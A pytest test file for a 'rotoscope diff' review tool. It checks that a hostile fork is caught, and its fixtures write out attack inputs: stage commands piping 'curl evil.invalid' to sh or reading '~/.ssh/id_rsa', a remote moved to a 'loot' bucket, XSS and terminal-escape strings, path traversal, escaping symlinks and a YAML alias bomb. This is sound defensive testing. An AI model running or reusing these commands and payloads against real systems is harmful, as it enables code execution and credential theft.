"""Reviewing a stranger's fork with `rotoscope diff main pr` (text, --md, --json, --html).

A studio with split frames and a render's manifest is copied for each test onto a branch `pr`,
whose commit attacks the reviewer: manifests that name local files, text that drives a terminal
or breaks Markdown, an invalid card, a YAML alias bomb, and what no validation can make safe (a
changed stage command, a moved remote, paths and symlinks that leave the studio), which the
report must name at its top in every medium.
"""

from __future__ import annotations

import base64
import html
import json
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pytest
from conftest import dvc, git, rotoscope, write_source
from markdown_it import MarkdownIt
from PIL import Image

from rotoscope.errors import ManifestError
from rotoscope.history import NO_FRAMES, ManifestChange, RevisionDiff, diff_revisions, symlink_problem
from rotoscope.media.synth import painting
from rotoscope.review import PageItem, page_html
from rotoscope.store import BlobStore
from rotoscope.studio import init_studio

HOSTILE = "x\x1b[31m`y`](http://evil.invalid)<script>alert(1)</script>|z"
SOURCE = "manifests/clip/source.json"
LOOK = "manifests/clip/look.json"


# -- a studio, and a fork of it ------------------------------------------------------------------


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """main: a 10-frame clip split into frames (in the DVC cache), an instant filter, and a render's
    manifest made by hand from the source's (frames identical: no filter has to run)."""
    base = tmp_path_factory.mktemp("made")
    studio, _ = init_studio(base / "studio", remote=base / "remote")
    root = studio.root
    rotoscope("add", str(write_source(base / "clip.mp4")), "--name", "clip", cwd=root)
    Image.fromarray(painting(160, 120)).save(base / "style.png")
    rotoscope("filter", "new", "swirls", "--style", str(base / "style.png"), "--kind", "instant", cwd=root)
    rotoscope("render", "new", "look", "--video", "clip", "--filter", "swirls", "--strength", "0.8", cwd=root)
    dvc("repro", "split@clip", cwd=root)
    source = json.loads((root / SOURCE).read_text())
    (root / LOOK).write_text(json.dumps(_stylized(source), indent=1))
    git("add", "-A", cwd=root)
    git("add", "-f", LOOK, cwd=root)
    git("commit", "-qm", "split, and a render's manifest", cwd=root)
    git("branch", "-qM", "main", cwd=root)
    return root


def _stylized(source: dict) -> dict:
    look = json.loads(json.dumps(source))
    look.pop("cuts", None)
    look.update(kind="stylized", name="look", frames_dir="frames/clip/look")
    look["lineage"] = {
        "parent": SOURCE,
        "parent_md5": "0" * 32,
        "filter": {"name": "swirls", "kind": "instant", "model_md5": "a" * 32},
        "render": {"strength": 0.8, "preserve_color": False, "max_side": None},
    }
    for frame in look["frames"]:
        frame["src"] = frame["md5"]
    return look


@dataclass
class Fork:
    root: Path
    canary: Path  # beside the studio: a private picture a page must never show

    def edit_json(self, path: str, change) -> None:
        document = json.loads((self.root / path).read_text())
        change(document)
        (self.root / path).write_text(json.dumps(document, indent=1))

    def edit_text(self, path: str, old: str, new: str) -> None:
        text = (self.root / path).read_text()
        assert old in text, f"{old!r} not in {path}"
        (self.root / path).write_text(text.replace(old, new, 1))

    def commit(self, message: str, *forced: str) -> None:
        git("add", "-A", cwd=self.root)
        if forced:
            git("add", "-f", *forced, cwd=self.root)
        git("commit", "-qm", message, "--allow-empty", cwd=self.root)

    def diff(self, *args: str) -> subprocess.CompletedProcess[str]:
        """`rotoscope diff main pr ...` as a reviewer runs it: exit 0, nothing on the terminal
        that moves it, never a traceback."""
        completed = rotoscope("diff", "main", "pr", *args, cwd=self.root)
        assert "Traceback" not in completed.stderr, completed.stderr
        assert "\x1b" not in completed.stdout + completed.stderr
        return completed

    def outputs(self, page: Path) -> dict[str, str]:
        """The report in every medium: text (with the page written), Markdown, JSON, HTML."""
        text = self.diff("--html", str(page)).stdout
        return {
            "text": text,
            "md": self.diff("--md").stdout,
            "json": "\n".join(json.loads(self.diff("--json").stdout)["warnings"]),
            "html": html.unescape(page.read_text()),
        }


@pytest.fixture
def fork(made: Path, tmp_path: Path) -> Fork:
    root = tmp_path / "studio"
    shutil.copytree(made, root, symlinks=True)
    canary = tmp_path / "canary"
    canary.mkdir()
    Image.fromarray(np.full((96, 128, 3), (250, 0, 200), np.uint8)).save(canary / "private.jpg")
    git("switch", "-qc", "pr", cwd=root)
    return Fork(root, canary)


# -- 1, 2: manifests are validated before a field is used ----------------------------------------


@pytest.mark.parametrize("md5", ["PRIVATE", "../../canary/private.jpg", "a' onerror='alert(1)", None])
def test_a_manifest_naming_a_local_file_is_refused_and_nothing_is_embedded(
    fork: Fork, tmp_path: Path, md5: str | None
) -> None:
    """The md5 `..` + an absolute path once joined onto the cache folder as that path itself."""
    private = fork.canary / "private.jpg"

    def change(document: dict) -> None:
        if md5 is None:
            del document["frames"][2]["md5"]  # once a KeyError and a traceback
        else:
            document["frames"][2]["md5"] = ".." + str(private) if md5 == "PRIVATE" else md5

    fork.edit_json(LOOK, change)
    fork.commit("a frame's md5 names a file")
    page = tmp_path / "review.html"
    text = fork.diff("--html", str(page)).stdout
    assert f"{LOOK}: refused: " in text and "does not match rotoscope.manifest/1 at frames/2" in text
    written = page.read_text()
    assert "<img" not in written and "data:image" not in written
    assert "onerror='" not in written and 'onerror="' not in written
    assert base64.b64encode(private.read_bytes()[:30]).decode()[:40] not in written
    assert "refused: " in written and LOOK in written
    report = json.loads(fork.diff("--json").stdout)
    look = {m["path"]: m for m in report["manifests"]}[LOOK]
    assert look["status"] == "invalid" and "frames/2" in look["problem"]
    assert "refused" in fork.diff("--md").stdout
    logged = rotoscope("log", LOOK, cwd=fork.root)
    assert "refused: " in logged.stdout and "Traceback" not in logged.stderr


def test_the_cache_refuses_a_name_that_is_not_an_md5(fork: Fork) -> None:
    store = BlobStore(fork.root)
    for bad in (".." + str(fork.canary / "private.jpg"), "../" * 4 + "etc/passwd", "A" * 32, "a" * 31):
        with pytest.raises(ManifestError, match="not an md5"):
            store.cache_path(bad)


def test_a_valid_change_still_shows_thumbnails_under_a_content_security_policy(
    fork: Fork, tmp_path: Path
) -> None:
    """The positive control: a render whose frame 2 is now frame 3's picture, side by side."""

    def change(document: dict) -> None:
        document["frames"][2]["md5"] = document["frames"][3]["md5"]

    fork.edit_json(LOOK, change)
    fork.commit("frame 2 replaced")
    page = tmp_path / "review.html"
    fork.diff("--html", str(page))
    written = page.read_text()
    assert "changed frames 2" in written and written.count("<img ") == 2
    assert written.count('src="data:image/jpeg;base64,') == 2
    assert "Content-Security-Policy" in written and "img-src data:" in written
    assert "http://" not in written and "https://" not in written and "file:" not in written
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser:  # the inline script runs under the policy (its hash) and both pictures decode
        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--dump-dom"]
        dom = subprocess.run(
            [browser, *flags, page.as_uri()], capture_output=True, text=True, timeout=120, check=True
        ).stdout
        assert 'data-images-loaded="2"' in dom, dom[-400:]


def test_the_review_page_fetches_the_sampled_frames_of_both_revisions(fork: Fork, tmp_path: Path) -> None:
    """A reviewer's fresh clone: the frames are fetched from the remote, at each revision, by the
    paths the revision tracks (validated frames_dir), never through the work tree."""
    fork.edit_text("params.yaml", "quality: 95      # 1-100 for jpg and webp (png", "quality: 60 # (png")
    dvc("repro", "split@clip", cwd=fork.root)
    fork.commit("a lower split quality")
    dvc("push", "--all-branches", cwd=fork.root)
    clone = tmp_path / "clone"
    git("clone", "-q", str(fork.root), str(clone), cwd=tmp_path)
    page = tmp_path / "review.html"
    rotoscope("diff", "origin/main", "origin/pr", "--html", str(page), cwd=clone)
    written = page.read_text()
    assert "changed frames 0-9" in written and written.count('src="data:image/jpeg;base64,') == 2 * 3
    cached = [p for p in (clone / ".dvc/cache/files/md5").rglob("*") if p.is_file() and p.suffix != ".dir"]
    assert len(cached) == 2 * 3  # frames 0, 4 and 9, before and after


def test_the_page_escapes_every_value_it_shows() -> None:
    """Jinja2's autoescape, for values that reach the page whatever validation let through."""
    change = ManifestChange(
        path=f"manifests/{HOSTILE}.json",
        status="invalid",
        frames_a=0,
        frames_b=0,
        frames=NO_FRAMES,
        settings={},
        problem=f"refused: {HOSTILE}",
    )
    report = RevisionDiff(
        "aaaaaaa",
        "bbbbbbb",
        params={HOSTILE: (HOSTILE, "<img src=x onerror=alert(1)>")},
        manifests=[change],
        warnings=[f"dvc.yaml: new stage {HOSTILE!r}"],
    )
    written = page_html(report, [], [PageItem(change.path, change.problem or "")], [])
    assert "<script>alert" not in written and "<img src=x" not in written and "<img" not in written
    assert "&lt;script&gt;" in written and "&lt;img src&#61;x onerror&#61;alert(1)&gt;" in written
    assert "onerror=" not in written and "\x1b" not in written  # no name=value, no control character
    assert written.count("<script>") == 1  # the page's own, allowed by hash


# -- 4: Markdown and the terminal ----------------------------------------------------------------


def _markdown_html(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("table").render(markdown)


def test_hostile_values_stay_inside_their_code_spans_and_off_the_terminal(fork: Fork) -> None:
    fork.edit_text("params.yaml", "strength: 0.8", f"strength: {json.dumps(HOSTILE)}")

    def card(document: dict) -> None:
        document["provenance"]["title"] = HOSTILE
        document["provenance"]["artist"] = "Klimt\x1b]0;pwned\x07"

    fork.edit_json("filters/swirls/filter.json", card)
    fork.edit_json(LOOK, lambda document: document["lineage"]["filter"].update(model_md5="b" * 32))
    fork.commit(f"a new look {HOSTILE}")

    markdown = fork.diff("--md").stdout
    rendered = _markdown_html(markdown)
    assert "<script>" not in rendered and "<a " not in rendered and "\x1b" not in rendered
    assert "| `renders.look.strength` | `0.8` | " in markdown
    strength = next(line for line in markdown.splitlines() if "renders.look.strength" in line)
    assert strength.count("|") - strength.count("\\|") == 4  # the value's pipe cannot add a cell
    assert "<code>x?[31m`y`](http://evil.invalid)&lt;script&gt;" in rendered  # all of it, in its span
    assert "filter card: swirls \\(instant\\): Klimt?\\]0;pwned?" in markdown
    assert "`lineage.filter.model_md5`" in markdown

    text = fork.diff().stdout
    assert "filter card: swirls (instant): Klimt?]0;pwned?" in text
    assert "renders.look.strength: 0.8 -> x?[31m`y`" in text
    logged = rotoscope("log", LOOK, cwd=fork.root).stdout
    assert "a new look x?[31m" in logged and "\x1b" not in logged


def test_report_lines_and_markdown_escape_values_in_process() -> None:
    change = ManifestChange(
        LOOK,
        "changed",
        10,
        10,
        NO_FRAMES,
        {"lineage.render.strength": (0.8, HOSTILE)},
        filter_card={"name": HOSTILE, "kind": "instant", "provenance": {"title": HOSTILE}},
    )
    report = RevisionDiff("a", "b", {"renders.x": (None, HOSTILE)}, [change], [HOSTILE])
    for line in report.lines():
        assert line.isprintable(), repr(line)
    rendered = _markdown_html(report.to_markdown())
    assert "<script>" not in rendered and "<a " not in rendered and "\x1b" not in rendered


# -- 5: a card from the other revision is validated ----------------------------------------------


def test_an_invalid_filter_card_is_a_warning_not_a_quote(fork: Fork, tmp_path: Path) -> None:
    def card(document: dict) -> None:
        document["name"] = "../../etc"
        document["provenance"]["title"] = HOSTILE
        document["evil"] = True

    fork.edit_json("filters/swirls/filter.json", card)
    fork.edit_json(LOOK, lambda document: document["lineage"]["filter"].update(model_md5="b" * 32))
    fork.commit("a card that does not match the schema")
    seen = fork.outputs(tmp_path / "review.html")
    for medium, output in seen.items():
        assert "filter card refused: " in output.replace("\\", ""), medium
        assert "alert(1)" not in output, medium
    report = json.loads(fork.diff("--json").stdout)
    assert {m["path"]: m for m in report["manifests"]}[LOOK]["filter_card"] is None


# -- 6: what validation cannot make safe, named at the top ---------------------------------------


def _hazards(fork: Fork) -> None:
    """One commit with every kind: commands, remotes, paths and symlinks."""
    fork.edit_text(
        "dvc.yaml", "cmd: rotoscope split ${key}", "cmd: rotoscope split ${key} && curl evil.invalid"
    )
    with open(fork.root / "dvc.yaml", "a") as handle:
        handle.write('  pwn:\n    cmd: "echo `id` <script>alert(1)</script>"\n')
    fork.edit_text(".dvc/config", "remote = local", "remote = theirs")
    with open(fork.root / ".dvc/config", "a") as handle:
        handle.write("['remote \"theirs\"']\n    url = s3://someone-elses-bucket/loot\n")
    fork.edit_text("videos/clip.mp4.dvc", "path: clip.mp4", "path: ../../canary/victim.mp4")
    fork.edit_text("dvc.lock", "path: frames/clip/source", f"path: {fork.canary}/frames")
    renders = fork.root / "renders"
    if renders.exists():
        shutil.rmtree(renders)
    renders.symlink_to(fork.canary)
    (fork.root / "shortcut").symlink_to("frames/clip")
    (fork.root / "manifests" / "harmless").symlink_to("clip")
    fork.commit("hazards", "renders", "shortcut")


NEEDLES = [
    "stage 'split' changed its command; `dvc repro` would run: rotoscope split ${key} && curl evil.invalid",
    "new stage 'pwn'; `dvc repro` would run: echo `id` <script>alert(1)</script>",
    "default remote (core.remote) local → theirs",
    "remote 'theirs' url (none) → s3://someone-elses-bucket/loot",
    "videos/clip.mp4.dvc at",
    "names paths outside the studio: ../../canary/victim.mp4",
    "dvc.lock at",
    "symlink renders → ",
    "leaves the studio",
    "symlink shortcut → frames/clip at",
    "points into frames/, where rotoscope writes and deletes",
]


def test_every_hazard_is_named_at_the_top_of_every_medium(fork: Fork, tmp_path: Path) -> None:
    _hazards(fork)
    seen = fork.outputs(tmp_path / "review.html")
    for medium, output in seen.items():
        plain = output.replace("\\", "") if medium == "md" else output  # Markdown's escapes
        for needle in NEEDLES:
            assert needle in plain, f"{medium}: {needle!r} not in\n{output}"
        assert "manifests/harmless" not in plain
    assert seen["text"].splitlines()[1].startswith("WARNING: dvc.yaml at ")  # first, after the title
    markdown = fork.diff("--md").stdout
    assert markdown.splitlines()[2] == "> [!WARNING]"
    assert "<script>" not in _markdown_html(markdown)
    page = (tmp_path / "review.html").read_text()
    assert page.index("<h2>Warnings</h2>") < page.index("<p>No frame changed.</p>")
    assert "<script>alert" not in page and "&lt;script&gt;alert(1)" in page
    assert "not fetched" not in page  # no frame changed, so nothing was fetched from anywhere


def test_a_command_changed_through_what_it_interpolates_is_named(fork: Fork) -> None:
    """The same `cmd` over other items runs other commands: `${key}` is whatever foreach lists."""
    fork.edit_text(
        "dvc.yaml",
        "foreach: ${videos}",
        "foreach: ['x; curl evil.invalid | sh']",
    )
    fork.commit("the split stage's items")
    (warning,) = json.loads(fork.diff("--json").stdout)["warnings"]
    assert "stage 'split' changed its command" in warning and "curl evil.invalid | sh" in warning


def test_a_moved_remote_is_never_fetched_from_by_the_review_page(fork: Fork, tmp_path: Path) -> None:
    """DVC reads a revision's remotes from that revision's .dvc/config: the page fetches the
    fork's frames only when the fork keeps the base's remotes."""
    elsewhere = tmp_path / "elsewhere"
    config = (fork.root / ".dvc/config").read_text()
    url = next(line.split("=", 1)[1].strip() for line in config.splitlines() if "url =" in line)
    fork.edit_text(".dvc/config", f"url = {url}", f"url = {elsewhere}")
    fork.edit_json(LOOK, lambda document: document["frames"][2].update(md5="c" * 32))
    fork.commit("frames from somewhere else")
    page = tmp_path / "review.html"
    text = fork.diff("--html", str(page)).stdout
    assert "WARNING: .dvc/config at " in text and f"remote 'local' url {url} → {elsewhere}" in text
    written = page.read_text()
    assert "not fetched: this revision moves the DVC remotes" in written
    assert not elsewhere.exists()


def test_a_studio_inside_a_larger_repository_is_checked_by_its_own_paths(tmp_path: Path) -> None:
    """The studio is a folder of a project: its paths stay its own, and a symlink into the
    project around it leaves the studio."""
    top = tmp_path / "project"
    top.mkdir()
    git("init", "-q", cwd=top)
    (top / "README.md").write_text("a project with a studio inside\n")
    studio, _ = init_studio(top / "studio", remote=tmp_path / "remote")
    root = studio.root
    rotoscope("add", str(write_source(tmp_path / "clip.mp4")), "--name", "clip", cwd=root)
    dvc("repro", "split@clip", cwd=root)
    git("add", "-A", cwd=top)
    git("commit", "-qm", "split", cwd=top)
    git("branch", "-qM", "main", cwd=top)
    git("switch", "-qc", "pr", cwd=top)
    fork = Fork(root, tmp_path)
    fork.edit_text("dvc.yaml", "cmd: rotoscope split ${key}", "cmd: sh -c 'cat ~/.ssh/id_rsa'")
    fork.edit_json(SOURCE, lambda document: document["frames"][0].update(md5="../../../README.md"))
    (root / "readme").symlink_to("../README.md")
    fork.commit("hostile, inside a project")
    report = json.loads(fork.diff("--json").stdout)
    assert any("stage 'split' changed its command" in w and "id_rsa" in w for w in report["warnings"])
    assert "symlink readme → ../README.md at " + report["rev_b"] + " leaves the studio" in report["warnings"]
    ((path, change),) = [(m["path"], m) for m in report["manifests"]]
    assert path == SOURCE and change["status"] == "invalid"
    assert "refused: " in rotoscope("log", SOURCE, cwd=root).stdout


def test_symlink_rules() -> None:
    assert symlink_problem("renders", "/tmp/x") == "leaves the studio"
    assert symlink_problem("a/b", "../../x") == "leaves the studio"
    assert (
        symlink_problem("a/b", "../frames/clip") == "points into frames/, where rotoscope writes and deletes"
    )
    assert symlink_problem("frames/clip/look", "../../videos") == (
        "stands in frames/, where rotoscope writes and deletes"
    )
    assert symlink_problem("manifests/x", "clip") is None
    assert symlink_problem("docs/readme", "../README.md") is None


# -- 7: params.yaml that cannot be read, or is invalid -------------------------------------------


def _alias_bomb(levels: int = 9) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 9)}]")
    return "\n".join(lines) + "\nvideos: {}\n"


def test_a_yaml_alias_bomb_is_a_warning_not_a_hang(fork: Fork) -> None:
    """Refused by counting the values its aliases expand to, on parse events, before anything is
    built: the refusal message says so (its speed is not timed here: that belongs in benchmarks)."""
    (fork.root / "params.yaml").write_text(_alias_bomb())
    fork.commit("a billion laughs")
    report = diff_revisions(fork.root, "main", "pr")
    (warning,) = [w for w in report.warnings if w.startswith("params.yaml at ")]
    assert "is invalid: refused: expands to over" in warning
    assert report.params == {"params.yaml": ("read", "refused (see warnings)")}
    text = fork.diff().stdout
    assert "WARNING: params.yaml at " in text


def test_an_invalid_params_yaml_is_still_diffed_with_a_warning(fork: Fork) -> None:
    fork.edit_text("params.yaml", "strength: 0.8", "strength: 5")
    fork.commit("out of range")
    report = json.loads(fork.diff("--json").stdout)
    assert report["params"]["renders.look.strength"] == [0.8, 5]
    (warning,) = report["warnings"]
    assert warning.startswith("params.yaml at ") and "is invalid: renders.look" in warning


def test_an_unreadable_params_yaml_is_one_warning(fork: Fork) -> None:
    (fork.root / "params.yaml").write_text("videos: [unclosed\n")
    fork.commit("broken YAML")
    completed = fork.diff()
    assert "WARNING: params.yaml at " in completed.stdout and "invalid YAML" in completed.stdout
